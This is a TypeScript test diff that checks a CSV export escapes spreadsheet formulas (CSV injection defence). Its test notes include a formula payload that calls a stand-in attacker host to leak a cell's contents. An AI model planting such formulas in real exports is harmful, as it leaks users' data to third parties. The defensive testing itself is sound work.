@@ -5,6 +5,7 @@ import { AnnotateRequest, ListCasesRequest } from '../../src/shared/contract';
 import { runCli } from '../../src/main/cli';
 import { CaseService } from '../../src/main/lab/cases/cases';
 import { csvHeader, exportCaseTable } from '../../src/main/lab/export/case-table';
+import { csvField } from '../../src/main/lab/export/csv';
 import { writeFileAtomically } from '../../src/main/lab/export/atomic';
 import { caseStudy, CNN, MCD, type CaseStudy } from '../cases/fixture';
 import { captureIo } from '../helpers/io';
@@ -117,6 +118,40 @@ describe('export-cases tables', () => {
     expect(rows[0]![column('note')]).toBe(NOTE);
     expect(rows[0]![column('tags')]).toBe('interesting; mislabelled?');
     expect(rows[1]![column('note')]).toBe('');
+  });
+
+  it('CSV text cells that a spreadsheet would evaluate get a leading quote (OWASP); numbers stay numbers', () => {
+    const cases = setup();
+    // issue 19, part 3: the notes and tags that were written as they are
+    const notes = [
+      '=HYPERLINK("http://evil.example/?d="&A1,"click")',
+      '+SUM(1,2)',
+      '-2+3',
+      '@SUM(A1)',
+      '\tTAB first',
+      '\r=1+2',
+    ];
+    const tags = ['=1+2', '+SUM(1,2)', '-2+3', '@SUM(A1)'];
+    notes.forEach((note, index) =>
+      cases.annotate(
+        AnnotateRequest.parse({ datasetId: study.datasetId, split: 'test', index, note, addTags: [tags[index % 4]] }),
+      ),
+    );
+    const file = join(tempDir(), 'cases.csv');
+    exportCaseTable(cases, file, { list: list([...study.runIds]), classes: CLASSES, format: 'csv' });
+    const [header, ...rows] = parseCsv(readFileSync(file, 'utf8'));
+    const column = (name: string) => header!.indexOf(name);
+    expect(rows.map((row) => row[column('note')])).toEqual(notes.map((note) => `'${note}`));
+    expect(rows[1]![column('tags')]).toBe(`'+SUM(1,2)`);
+    expect(rows[2]![column('tags')]).toBe(`'-2+3`);
+    expect(rows[3]![column('tags')]).toBe(`'@SUM(A1)`);
+    expect(rows[4]![column('tags')]).toBe(`'=1+2`);
+    // every cell: text never starts a formula; numeric cells are bare numbers
+    for (const row of rows)
+      for (const cell of row) expect(/^[=+\-@\t\r]/.test(cell) && Number.isNaN(Number(cell)), cell).toBe(false);
+    expect(rows[0]![column('index')]).toBe('0');
+    expect([-2, -0, -0.5, 1e-7, -1e21].map(csvField)).toEqual(['-2', '0', '-0.5', '1e-7', '-1e+21']);
+    expect(['-', 'plain', '', "'=x"].map(csvField)).toEqual(["'-", 'plain', '', "'=x"]);
   });
 
   it('JSON lines parse, with the runs nested and the probabilities by class', () => {
